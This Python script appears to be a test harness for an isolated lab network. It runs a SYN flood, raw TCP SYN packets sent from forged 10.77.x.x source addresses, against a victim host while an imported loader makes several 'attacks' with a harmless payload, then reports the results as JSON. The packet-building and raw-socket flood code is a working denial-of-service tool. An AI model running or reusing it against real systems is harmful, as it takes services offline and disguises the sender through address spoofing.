"""Opens connections and never completes them, under forged addresses, while a loader attacks. For a network apart.

`half_open_child.py VICTIM PORT` says a line when the flood is on, and at the end how the attacks went, as JSON.
"""

from __future__ import annotations

import asyncio
import json
import random
import socket
import struct
import sys
import threading

from eudaemon.demo.loader import attack
from eudaemon.demo.sample import harmless_for

ATTACKS = 3
SENT_BEFORE = 3000


def checksum(data: bytes) -> int:
    """RFC 1071."""
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(dice: random.Random, victim: bytes, port: int) -> bytes:
    """Return an IPv4 packet (RFC 791) with a TCP SYN (RFC 9293) from somewhere in 10.77.0.0/16 where nobody is."""
    source = bytes((10, 77, dice.randrange(1, 250), dice.randrange(1, 250)))
    fields = (dice.randrange(1024, 65535), port, dice.randrange(2**32), 0, 5 << 4, 2, 64240)
    bare = struct.pack(">HHIIBBHHH", *fields, 0, 0)
    pseudo = source + victim + struct.pack(">HH", socket.IPPROTO_TCP, len(bare))
    tcp = struct.pack(">HHIIBBHHH", *fields, checksum(pseudo + bare), 0)
    # The kernel fills in what is 0 of length, identification and checksum (raw(7)).
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source, victim) + tcp


class Flood(threading.Thread):
    """Sends until told to stop."""

    def __init__(self, victim: str, port: int) -> None:
        super().__init__(daemon=True)
        self._victim, self._port = victim, port
        self.sent = 0
        self.over = threading.Event()

    def run(self) -> None:
        dice = random.Random(6)
        victim = socket.inet_aton(self._victim)
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
            while not self.over.wait(0.01):
                for _ in range(50):
                    raw.sendto(syn(dice, victim, self._port), (self._victim, 0))
                    self.sent += 1


async def main(victim: str, port: int) -> None:
    for _ in range(300):  # until it is there
        try:
            with socket.create_connection((victim, port), 1):
                break
        except OSError:
            await asyncio.sleep(0.1)
    flood = Flood(victim, port)
    flood.start()
    while flood.sent < SENT_BEFORE:
        await asyncio.sleep(0.01)
    print("on", flush=True)
    failed = []
    for _ in range(ATTACKS):
        outcome = await attack(victim, port, payload=harmless_for, method="echo", timeout_s=30)
        if not outcome.succeeded:
            failed.append(outcome.stage)
    flood.over.set()
    flood.join()
    print(json.dumps({"sent": flood.sent, "connections": 1 + ATTACKS, "failed": failed}), flush=True)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
